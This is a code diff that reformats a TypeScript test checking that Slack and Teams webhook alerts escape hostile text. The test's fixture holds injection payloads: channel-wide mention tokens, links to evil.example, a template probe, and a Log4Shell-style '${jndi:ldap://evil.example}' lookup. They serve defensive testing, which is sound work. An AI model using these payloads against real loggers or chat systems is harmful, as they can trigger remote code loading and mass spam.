@@ -6,14 +6,18 @@ import { alert, T0 } from '../../support/notify.ts';
 
 const URL_OF_HOOK = new URL('https://chat.example.net/hooks/knocks');
 
-function sent(form: WebhookForm, of: Alert): { url: string; body: ReturnType<typeof JSON.parse>; octets: number } {
+function sent(
+  form: WebhookForm,
+  of: Alert,
+): { url: string; body: ReturnType<typeof JSON.parse>; octets: number } {
   const { url, body } = FORMS[form](of, URL_OF_HOOK, T0);
   return { url: url.href, body: JSON.parse(body), octets: Buffer.byteLength(body) };
 }
 
 /** What a stranger would like to have in our chat. */
 const HOSTILE = alert({
-  subject: '[knockwatch] <!channel> @everyone [click](https://evil.example) **now** <https://evil.example|here>',
+  subject:
+    '[knockwatch] <!channel> @everyone [click](https://evil.example) **now** <https://evil.example|here>',
   text: 'login of `</pre>```@everyone <@U1> [click](https://evil.example)\n{{7*7}} ${jndi:ldap://evil.example}',
 });
 
@@ -22,7 +26,10 @@ describe('a stranger’s text means nothing to', () => {
     const { text, blocks } = sent('slack', HOSTILE).body;
     expect(text).not.toMatch(/[<>]/);
     expect(text).toContain('&lt;!channel&gt;');
-    expect(blocks.map((block: { text: { type: string } }) => block.text.type)).toEqual(['plain_text', 'plain_text']);
+    expect(blocks.map((block: { text: { type: string } }) => block.text.type)).toEqual([
+      'plain_text',
+      'plain_text',
+    ]);
   });
 
   it('teams: text runs, which are not Markdown', () => {
